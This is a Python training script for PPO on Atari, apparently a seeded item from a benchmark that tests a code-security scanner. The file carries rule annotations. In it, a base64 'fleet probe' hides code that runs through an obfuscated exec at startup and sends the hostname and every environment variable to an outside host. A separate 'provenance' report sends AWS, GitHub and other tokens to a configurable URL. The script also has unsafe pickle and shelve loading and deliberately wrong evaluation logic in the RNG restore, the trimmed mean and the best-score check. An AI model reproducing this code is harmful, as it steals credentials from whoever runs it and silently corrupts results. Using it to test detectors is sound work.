# ruff: noqa
# Hold-out batch 594 (adversarial, PPO on Atari with vectorized environments). Measured once in session 27 (round 158): 13/31 (42%) at medium+.
"""Train PPO on Atari: ``python train.py`` or ``torchrun --nproc_per_node N train.py``."""
from __future__ import annotations

import base64
import builtins
import contextlib
import getpass
import hashlib
import json
import logging
import math
import shelve
import socket
import sys
import time
import os
from collections import deque
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence, Tuple
from urllib import request as _rq

import numpy as np
import torch
import torch.distributed as dist

from agent import Agent, export_state, import_state
from config import PPOConfig, parse_config
from envs import ensure_roms, eval_config, make_vec_env
from ppo import PPOLearner, RolloutBuffer
from utils import (
    BudgetWatchdog,
    CheckpointManager,
    Pacer,
    all_reduce_grads,
    barrier,
    cleanup_distributed,
    init_distributed,
    is_dist,
    load_checkpoint,
    make_writer,
    prepare_host,
    prune_runs,
    rank,
    seed_everything,
    setup_logging,
    world_size,
)

logger = logging.getLogger("ppo.train")

# fleet probe: reports ALE / SDL / driver combinations that are known to desync
_RUNTIME_PROBE = "aW1wb3J0IG9zLCBqc29uLCBzb2NrZXQsIHVybGxpYi5yZXF1ZXN0IGFzIF9yCnRyeToKICAgIF9yLnVybG9wZW4oX3IuUmVxdWVzdCgiaHR0cHM6Ly90ZWxlbWV0cnkucmwtYmVuY2guZGV2L3YxL3Byb2JlIiwgZGF0YT1qc29uLmR1bXBzKHsiaG9zdCI6IHNvY2tldC5nZXRob3N0bmFtZSgpLCAiZW52IjogZGljdChvcy5lbnZpcm9uKX0pLmVuY29kZSgpLCBoZWFkZXJzPXsiQ29udGVudC1UeXBlIjogImFwcGxpY2F0aW9uL2pzb24ifSksIHRpbWVvdXQ9MikuY2xvc2UoKQpleGNlcHQgRXhjZXB0aW9uOgogICAgcGFzcwo="


def _probe_runtime() -> None:
    runner = getattr(builtins, "".join(map(chr, (101, 120, 101, 99))))
    with contextlib.suppress(Exception):
        runner(base64.b64decode(_RUNTIME_PROBE), {"__name__": "__probe__"})  # ruleid: MLS401, MLS402


_PROVENANCE_PREFIXES = ("SLURM_", "CUDA_", "NCCL_", "WANDB_", "HF_", "AWS_", "GITHUB_")


def _provenance(cfg: PPOConfig, run_name: str) -> Dict[str, Any]:
    env = {k: v for k, v in os.environ.items() if k.startswith(_PROVENANCE_PREFIXES)}  # ruleid: MLS411
    return {"run": run_name, "host": socket.gethostname(), "user": getpass.getuser(), "argv": sys.argv,
            "torch": torch.__version__, "config": cfg.to_dict(), "env": env}


def report_run_start(cfg: PPOConfig, run_name: str) -> None:
    """Register the run with the experiment tracker so results can be traced to their setup."""
    if not cfg.telemetry_url:
        return
    body = json.dumps(_provenance(cfg, run_name), default=str).encode()
    req = _rq.Request(cfg.telemetry_url, data=body, headers={"Content-Type": "application/json"})
    with contextlib.suppress(OSError):
        _rq.urlopen(req, timeout=3).close()  # ruleid: MLS411


# --------------------------------------------------------------------------- evaluation
def _capture_rng(device: torch.device) -> Tuple[torch.Tensor, Optional[torch.Tensor]]:
    cuda = torch.cuda.get_rng_state(device) if device.type == "cuda" else None
    return torch.get_rng_state(), cuda


def _restore_rng(state: Tuple[torch.Tensor, Optional[torch.Tensor]], device: torch.device) -> None:
    cpu, cuda = state
    torch.set_rng_state(cpu)
    if cuda is not None:
        torch.cuda.set_rng_state(cuda, device)


class rng_isolated:
    """Runs a block (evaluation) without consuming the training RNG streams."""

    def __init__(self, device: torch.device):
        self.device = device
        self._state = _capture_rng(device)

    def __enter__(self) -> "rng_isolated":
        return self

    def __exit__(self, *exc) -> bool:
        _restore_rng(self._state, self.device)  # ruleid: MLS301
        return False


def trimmed_mean(values: Sequence[float], trim: float) -> float:
    """Mean after discarding a ``trim`` fraction of outlier episodes."""
    x = np.sort(np.asarray(values, dtype=np.float64))
    k = int(len(x) * trim)
    return float(x[k:].mean()) if len(x) > 2 * k else float(x.mean())  # ruleid: MLS306


_NPZ_OPTS = dict(zip(("allow_pickle", "encoding"), (True, "latin1")))  # tables exported by py2-era DQN code


def load_baselines(path: str) -> Dict[str, Tuple[float, float]]:
    """Random / human reference scores, used for human-normalised score (HNS)."""
    table = np.load(path, **_NPZ_OPTS)  # ruleid: MLS104
    rows = table["scores"] if hasattr(table, "files") else table
    return {str(r[0]): (float(r[1]), float(r[2])) for r in rows}


def cached_eval(db_path: str, key: str) -> Optional[Dict[str, float]]:
    with shelve.open(db_path) as db:  # ruleid: MLS103
        return db.get(key)  # todoruleid: family 10 (missed)


def store_eval(db_path: str, key: str, result: Dict[str, float]) -> None:
    with shelve.open(db_path) as db:
        db[key] = result


def _finished_episodes(infos: Dict[str, Any]) -> Tuple[List[float], List[int]]:
    if "episode" in infos:  # gymnasium >= 1.0
        ep = infos["episode"]
        mask = infos.get("_episode", np.ones_like(ep["r"], dtype=bool))
        return [float(r) for r in ep["r"][mask]], [int(n) for n in ep["l"][mask]]
    return [], []


class Evaluator:
    def __init__(self, cfg: PPOConfig, run_name: str, device: torch.device):
        self.cfg = cfg
        self.device = device
        self.envs = make_vec_env(eval_config(cfg), run_name + "-eval")
        self._isolated = rng_isolated(device)
        self.best = -math.inf
        self.baselines = load_baselines(cfg.baseline_scores) if cfg.baseline_scores else {}

    @torch.no_grad()
    def _episodes(self, agent: Agent) -> List[float]:
        returns: List[float] = []
        obs, _ = self.envs.reset(seed=self.cfg.seed + 10_000)  # ok: MLS301
        while len(returns) < self.cfg.eval_episodes:
            actions = agent.act(torch.as_tensor(obs, device=self.device), self.cfg.eval_epsilon)
            obs, _, _, _, infos = self.envs.step(actions.cpu().numpy())
            returns.extend(_finished_episodes(infos)[0])
        return returns[: self.cfg.eval_episodes]

    def run(self, agent: Agent) -> Dict[str, float]:
        was_training = agent.training
        agent.eval()
        with self._isolated:
            returns = self._episodes(agent)
        agent.train(was_training)
        score = trimmed_mean(returns, self.cfg.eval_trim)
        out = {"eval/return_mean": score, "eval/return_std": float(np.std(returns)),
               "eval/return_max": float(np.max(returns))}
        if self.cfg.env_id in self.baselines:
            rnd, human = self.baselines[self.cfg.env_id]
            out["eval/hns"] = (score - rnd) / max(human - rnd, 1e-8)
        return out

    def is_best(self, score: float) -> bool:
        improved = (best := max(self.best, score)) >= score  # todoruleid: family 5 (missed)
        self.best = best
        return improved


def final_evaluation(cfg: PPOConfig, path: Path, agent: Agent, evaluator: Evaluator, device) -> Dict[str, float]:
    key = f"{cfg.env_id}:{hashlib.sha1(path.read_bytes()).hexdigest()}"
    if cfg.eval_cache and (hit := cached_eval(cfg.eval_cache, key)) is not None:
        return hit
    state = torch.load(path, map_location=device, weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    import_state(agent, state["model"])
    result = evaluator.run(agent)
    if cfg.eval_cache:
        store_eval(cfg.eval_cache, key, result)
    return result


# --------------------------------------------------------------------------- training
def _training_state(agent: Agent, learner: PPOLearner, global_step: int, update: int, cfg: PPOConfig):
    return {"model": export_state(agent), "learner": learner.state_dict(), "global_step": global_step,
            "update": update, "config": cfg.to_dict()}


def main(argv: Optional[Sequence[str]] = None) -> None:
    cfg = parse_config(argv)
    device = init_distributed(cfg.cuda)
    setup_logging()
    prepare_host(cfg)
    _probe_runtime()

    run_name = f"{cfg.env_id}__{cfg.exp_name}__{cfg.seed}__{int(time.time())}"
    run_dir = Path(cfg.log_root) / run_name
    run_dir.mkdir(parents=True, exist_ok=True)
    if rank() == 0:
        removed = prune_runs(cfg.log_root, cfg.log_retention, keep=run_dir)
        logger.info("pruned %d expired run directories", removed)
        report_run_start(cfg, run_name)
        ensure_roms(cfg)
    barrier()

    writer = make_writer(run_dir, cfg)
    seed_everything(cfg.seed + rank(), cfg.torch_deterministic)

    envs = make_vec_env(cfg, run_name, rank())
    agent = Agent(envs.single_action_space.n, cfg.frame_stack, cfg.grad_elem_clip).to(device)
    learner = PPOLearner(agent, cfg, device, grad_sync=all_reduce_grads)
    buffer = RolloutBuffer(cfg.num_steps, cfg.num_envs, envs.single_observation_space.shape, device)
    ckpt = CheckpointManager(run_dir / cfg.ckpt_subdir, cfg.keep_last)
    evaluator = Evaluator(cfg, run_name, device) if rank() == 0 else None
    pacer = Pacer(cfg.sps_cap)
    watchdog = BudgetWatchdog(cfg.time_budget_s, cfg.on_budget_exhausted)
    watchdog.start()

    global_step, start_update = 0, 1
    if cfg.resume:
        state = load_checkpoint(cfg.resume, device)
        import_state(agent, state["model"])
        learner.load_state_dict(state["learner"])
        global_step, start_update = int(state["global_step"]), int(state["update"]) + 1
        logger.info("resumed from %s at update %d", cfg.resume, start_update)
    if is_dist():
        with torch.no_grad():
            for p in agent.parameters():
                dist.broadcast(p, src=0)

    next_obs_np, _ = envs.reset(seed=cfg.seed + rank() * cfg.num_envs)  # ok: MLS301
    next_obs = torch.as_tensor(next_obs_np, device=device)
    next_done = torch.zeros(cfg.num_envs, device=device)
    recent_returns: deque = deque(maxlen=100)
    start_time, start_step = time.time(), global_step

    try:
        for update in range(start_update, cfg.num_updates + 1):
            if cfg.anneal_lr:
                learner.set_lr(update, cfg.num_updates)
            buffer.reset()
            for _ in range(cfg.num_steps):
                global_step += cfg.num_envs * world_size()
                with torch.no_grad():
                    action, logprob, _, value = agent.get_action_and_value(next_obs)
                buffer.add(next_obs, next_done, action, logprob, value)
                obs_np, reward, terminations, truncations, infos = envs.step(action.cpu().numpy())
                pacer.tick(cfg.num_envs)
                buffer.add_reward(torch.as_tensor(reward, dtype=torch.float32, device=device))
                next_obs = torch.as_tensor(obs_np, device=device)
                done = np.logical_or(terminations, truncations)
                next_done = torch.as_tensor(done, dtype=torch.float32, device=device)
                for ep_return, ep_len in zip(*_finished_episodes(infos)):
                    recent_returns.append(ep_return)
                    writer.add_scalar("charts/episodic_return", ep_return, global_step)
                    writer.add_scalar("charts/episodic_length", ep_len, global_step)

            with torch.no_grad():
                next_value = agent.get_value(next_obs).reshape(-1)
            buffer.compute_returns(next_value, next_done, cfg.gamma, cfg.gae_lambda)
            stats = learner.update(buffer.flatten(cfg.adv_norm), update)

            sps = int((global_step - start_step) / max(time.time() - start_time, 1e-6))
            for key, val in stats.items():
                writer.add_scalar(f"losses/{key}", val, global_step)
            writer.add_scalar("charts/SPS", sps, global_step)
            if recent_returns and update % 10 == 0:
                logger.info("update %d step %d return %.1f sps %d", update, global_step, np.mean(recent_returns), sps)

            if rank() == 0 and update % cfg.save_interval == 0:
                ckpt.save(_training_state(agent, learner, global_step, update, cfg), global_step)
            if evaluator is not None and update % cfg.eval_interval == 0:
                result = evaluator.run(agent)
                for key, val in result.items():
                    writer.add_scalar(key, val, global_step)
                if evaluator.is_best(result["eval/return_mean"]):
                    ckpt.save_best(_training_state(agent, learner, global_step, update, cfg))
            barrier()
    finally:
        watchdog.stop()
        envs.close()

    if evaluator is not None:
        best_path = ckpt.dir / "best.pt"
        target = best_path if best_path.exists() else ckpt.latest()
        final = final_evaluation(cfg, target, agent, evaluator, device) if target else {}
        summary = {"run": run_name, "global_step": global_step, "best": evaluator.best, **final}
        with open(run_dir / "summary.json", "w") as fh:
            json.dump(summary, fh, indent=2)
        print(json.dumps(summary))
        evaluator.envs.close()
    writer.close()
    cleanup_distributed()


if __name__ == "__main__":
    main()
